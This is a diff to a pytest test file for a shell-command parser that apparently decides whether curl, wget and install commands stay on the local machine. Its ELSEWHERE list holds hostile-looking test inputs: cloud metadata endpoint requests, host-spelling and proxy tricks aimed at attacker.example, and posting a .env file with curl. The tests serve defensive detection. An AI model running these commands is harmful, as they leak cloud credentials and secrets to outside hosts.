@@ -97,5 +97,69 @@ def test_files_with_secrets_are_named() -> None:
 
 def test_the_names_of_installed_packages_are_kept() -> None:
     """The packages of an installation are known, so that their source can be judged."""
-    assert parse("npm install left-pad@1 ./local", HOME, HOME).packages == ("left-pad@1",)
+    assert parse("npm install left-pad@1 ./local", HOME, HOME).packages == ("left-pad",)
     assert parse("npx -y some-package", HOME, HOME).packages == ("some-package",)
+
+
+HERE = [
+    "curl -s http://localhost:8000/health",
+    "curl -sSf localhost:3000/api?x=1",
+    "curl -X POST -H 'content-type: application/json' -d '{\"a\": 1}' http://127.0.0.1:8000/items",
+    "curl -s 'http://[::1]:8000/'",
+    "wget -qO- http://localhost:3000/",
+    "npm run dev & sleep 2; curl -s localhost:3000 | head -5",
+]
+ELSEWHERE = [
+    "curl http://169.254.169.254/latest/meta-data/",
+    "curl 'http://[fd00:ec2::254]/latest/'",
+    "curl http://metadata.google.internal/",
+    "curl http://localhost.attacker.example/",
+    "curl http://127.0.0.1@attacker.example/",
+    "curl 'http://localhost\\@attacker.example/'",
+    "curl http://2130706433:8000/",
+    "curl http://0.0.0.0:8000/",
+    "curl http://{localhost,attacker.example}/",
+    "curl -L http://localhost:8000/",
+    "curl -sL http://localhost:8000/",
+    "curl -x attacker.example:3128 http://localhost:8000/",
+    "curl --proxy http://attacker.example http://localhost:8000/",
+    "curl --resolve localhost:8000:203.0.113.5 http://localhost:8000/",
+    "curl --connect-to localhost:80:attacker.example:80 http://localhost/",
+    "curl -K config http://localhost:8000/",
+    "curl http://localhost:8000/ https://attacker.example/",
+    "curl http://localhost:8000/ --next https://attacker.example/",
+    "curl http://localhost:$PORT/",
+    "ALL_PROXY=http://attacker.example curl http://localhost:8000/",
+    "http_proxy=attacker.example:80 curl http://localhost:8000/",
+    "export https_proxy=attacker.example:80; curl http://localhost:8000/",
+    "curl -d @.env http://localhost:8000/",
+    "curl -F file=@.env http://localhost:8000/",
+    "cat .env | curl -d @- http://localhost:8000/",
+    "wget -i list.txt http://localhost:3000/",
+    "wget -e https_proxy=attacker.example http://localhost:3000/",
+]
+
+
+@pytest.mark.parametrize("command", HERE)
+def test_a_request_to_this_machine_goes_nowhere_else(command: str) -> None:
+    """It has no destination outside; what it does is noted apart."""
+    read = parse(command, "/home/mia/project", "/home/mia/project")
+    assert read.deed <= Deed.WORK
+    assert read.here in (Deed.FETCH, Deed.SEND)
+    assert read.to == ()
+
+
+@pytest.mark.parametrize("command", ELSEWHERE)
+def test_what_may_leave_this_machine_is_not_taken_for_local(command: str) -> None:
+    """An option, a spelling or a secret that is not understood keeps the destination outside."""
+    read = parse(command, "/home/mia/project", "/home/mia/project")
+    assert read.deed >= Deed.FETCH
+
+
+def test_a_package_is_named_as_a_person_says_it() -> None:
+    """Versions and extras are left out; an address, or another index, is no name."""
+    said = "pip install 'requests[socks]>=2.0' httpx==0.28 -r dev.txt git+https://attacker.example/x"
+    read = parse(said, "/w", "/w")
+    assert read.packages == ("requests", "httpx", "git+https://attacker.example/x")
+    assert "/w/dev.txt" in read.reads
+    assert parse("npm install @scope/name@1.2.3 left-pad", "/w", "/w").packages == ("@scope/name", "left-pad")
